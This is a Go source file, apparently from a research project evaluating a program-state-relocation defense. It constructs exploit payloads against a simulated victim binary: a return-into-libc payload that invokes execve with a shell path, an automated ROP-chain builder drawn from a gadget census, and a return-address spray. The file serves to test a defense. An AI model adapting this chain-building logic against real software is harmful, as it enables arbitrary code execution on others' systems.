package attack

import (
	"fmt"
	"sort"

	"hipstr/internal/gadget"
	"hipstr/internal/isa"
)

// ReturnIntoLibc builds the classic return-into-libc payload (§2): the
// overflow overwrites vuln's return address with libc_execve's entry and
// places the arguments where the native calling convention will read them.
func (v *Victim) ReturnIntoLibc() []uint32 {
	retIdx := v.retIndex()
	ex := v.Bin.Func("libc_execve")
	p := make([]uint32, retIdx+6)
	for i := 0; i < retIdx; i++ {
		p[i] = 0x41414141 // classic filler
	}
	p[retIdx] = ex.Entry[isa.X86]
	p[retIdx+1] = 0xDEADC0DE // execve's own return address
	p[retIdx+2] = v.ShellStr // path
	p[retIdx+3] = 0          // argv
	p[retIdx+4] = 0          // envp
	return p
}

// retIndex is the payload word index that lands on vuln's canonical
// return-address slot.
func (v *Victim) retIndex() int {
	return int((v.Vuln.RetAddrOff() - v.BufOff) / 4)
}

// ChainStep documents one gadget of a built chain.
type ChainStep struct {
	Gadget *gadget.Gadget
	Sets   map[isa.Reg]uint32
}

// BuildClassicChain constructs a Figure 1-style ROP chain from the
// victim's x86 gadget census: pop gadgets establish register state, then
// control returns into the execve stub with attacker arguments. It returns
// the payload and the chain description.
func (v *Victim) BuildClassicChain() ([]uint32, []ChainStep, error) {
	census := gadget.TakeCensus(v.Bin, isa.X86)
	type cand struct {
		g *gadget.Gadget
		e gadget.Effect
	}
	var cands []cand
	for i, e := range census.Effects {
		if e.Viable() && e.SPDelta > 0 && e.SPDelta%4 == 0 && e.SPDelta < 4*200 {
			cands = append(cands, cand{&census.Gadgets[i], e})
		}
	}
	// Shortest gadgets first: fewer side effects.
	sort.Slice(cands, func(i, j int) bool { return cands[i].g.Len < cands[j].g.Len })

	words := map[int]uint32{}
	set := func(idx int, val uint32) bool {
		if old, ok := words[idx]; ok && old != val {
			return false
		}
		if idx < 0 || idx >= NetBufWords-1 {
			return false
		}
		words[idx] = val
		return true
	}

	retIdx := v.retIndex()
	entry := retIdx + 1 // SP index after the first address pops
	var steps []ChainStep
	established := map[isa.Reg]bool{}

	// Pick up to two pop gadgets for distinct registers (demonstrating
	// state establishment), then finish with the execve stub.
	want := 2
	cursorAddr := retIdx // where the next gadget address must be written
	for _, c := range cands {
		if len(steps) >= want {
			break
		}
		var target isa.Reg = isa.NoReg
		for r := range c.e.Pops {
			if !established[r] {
				target = r
				break
			}
		}
		if target == isa.NoReg {
			continue
		}
		clobbers := false
		for _, r := range c.e.Clobbered {
			if established[r] {
				clobbers = true
			}
		}
		for r := range c.e.Pops {
			if established[r] && r != target {
				clobbers = true
			}
		}
		if clobbers {
			continue
		}
		// Tentatively lay out this gadget.
		ok := set(cursorAddr, c.g.Addr)
		vals := map[isa.Reg]uint32{}
		for r, slot := range c.e.Pops {
			val := uint32(0x51e77000) + uint32(r)
			ok = ok && set(entry+slot, val)
			vals[r] = val
		}
		nextAddrIdx := entry + c.e.NextSlot
		nextEntry := entry + int(c.e.SPDelta)/4
		if !ok || nextAddrIdx >= NetBufWords-1 || nextEntry >= NetBufWords-8 {
			continue
		}
		steps = append(steps, ChainStep{Gadget: c.g, Sets: vals})
		for r := range c.e.Pops {
			established[r] = true
		}
		cursorAddr = nextAddrIdx
		entry = nextEntry
	}
	if len(steps) == 0 {
		return nil, nil, fmt.Errorf("attack: no usable pop gadgets for a chain")
	}
	// Terminal: return into the execve stub.
	ex := v.Bin.Func("libc_execve")
	if !set(cursorAddr, ex.Entry[isa.X86]) ||
		!set(entry, 0xDEADC0DE) ||
		!set(entry+1, v.ShellStr) ||
		!set(entry+2, 0) || !set(entry+3, 0) {
		return nil, nil, fmt.Errorf("attack: chain layout collision")
	}
	maxIdx := 0
	for i := range words {
		if i > maxIdx {
			maxIdx = i
		}
	}
	payload := make([]uint32, maxIdx+1)
	for i := range payload {
		payload[i] = 0x42424242
	}
	for i, w := range words {
		payload[i] = w
	}
	return payload, steps, nil
}

// SprayPayload builds the strongest payload available to a PSR-aware
// attacker within the protocol's reach: every word of the overflow is the
// execve stub's address, hoping one lands on the relocated return-address
// slot. Under an 8 KiB randomization space and a bounded overflow, the
// relocated slot is overwhelmingly likely to be out of reach.
func (v *Victim) SprayPayload(words int) []uint32 {
	if words > NetBufWords-1 {
		words = NetBufWords - 1
	}
	ex := v.Bin.Func("libc_execve")
	p := make([]uint32, words)
	for i := range p {
		p[i] = ex.Entry[isa.X86]
	}
	return p
}
